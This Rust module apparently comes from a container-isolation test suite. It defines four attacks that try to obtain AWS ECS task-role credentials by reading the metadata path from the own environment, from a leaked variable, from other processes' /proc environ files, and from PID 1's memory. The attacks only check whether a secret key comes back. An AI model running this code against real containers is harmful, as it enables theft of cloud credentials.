//! The task role's credentials: where they are had is a secret path that ECS puts into the environment.

use super::network::addresses::TASK;
use super::{Attack, Result};
use std::fs;
use std::io::{self, Read, Seek, SeekFrom, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("credentials-own", own),
    ("credentials-of-others", of_others),
    ("credentials-memory", in_memory),
    ("credentials-known", known),
];

const VARIABLE: &str = "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI";

const PREFIX: &[u8] = b"/v2/credentials/";

/// The length of a UUID.
const ID: usize = 36;

/// As every SDK does it.
fn own() -> Result {
    fetch(&variable(VARIABLE)?)
}

/// The path was sent home earlier, or is told by an accomplice.
fn known() -> Result {
    fetch(&variable("LEAKED")?)
}

/// Out of the environment of any other process, PID 1 first.
fn of_others() -> Result {
    let own = std::process::id();
    for entry in fs::read_dir("/proc")? {
        let name = entry?.file_name();
        let Some(pid) = name.to_str().and_then(|name| name.parse::<u32>().ok()) else {
            continue;
        };
        let Ok(environment) = fs::read(format!("/proc/{pid}/environ")) else {
            continue;
        };
        if pid != own
            && let Some(path) = path_in(&environment)
        {
            return fetch(&path);
        }
    }
    Err(io::ErrorKind::PermissionDenied.into())
}

/// Out of what PID 1 can write to: its stack holds what it was started with.
fn in_memory() -> Result {
    let maps = fs::read_to_string("/proc/1/maps")?;
    let mut memory = fs::File::open("/proc/1/mem")?;
    for line in maps.lines().filter(|line| line.contains(" rw-p ")) {
        let range = line.split(' ').next().unwrap_or_default();
        let (from, to) = range.split_once('-').unwrap();
        let [from, to] = [from, to].map(|number| u64::from_str_radix(number, 16).unwrap());
        let mut content = vec![0; usize::try_from(to - from).unwrap()];
        memory.seek(SeekFrom::Start(from))?;
        if memory.read_exact(&mut content).is_ok()
            && let Some(path) = path_in(&content)
        {
            return fetch(&path);
        }
    }
    Err(io::ErrorKind::NotFound.into())
}

#[allow(
    clippy::disallowed_methods,
    reason = "the environment of an application, not of the wrapper"
)]
fn variable(name: &str) -> io::Result<String> {
    std::env::var(name).map_err(|_| io::ErrorKind::NotFound.into())
}

fn path_in(bytes: &[u8]) -> Option<String> {
    let at = bytes.windows(PREFIX.len()).position(|it| it == PREFIX)?;
    let path = bytes.get(at..at + PREFIX.len() + ID)?;
    String::from_utf8(path.to_vec()).ok()
}

fn fetch(path: &str) -> Result {
    let mut agent = TcpStream::connect(SocketAddr::new(TASK, 80))?;
    agent.set_read_timeout(Some(Duration::from_secs(2)))?;
    write!(
        agent,
        "GET {path} HTTP/1.1\r\nHost: 169.254.170.2\r\nConnection: close\r\n\r\n"
    )?;
    let mut answer = String::new();
    agent.read_to_string(&mut answer)?;
    if answer.contains("SecretAccessKey") {
        Ok(())
    } else {
        Err(io::ErrorKind::InvalidData.into())
    }
}
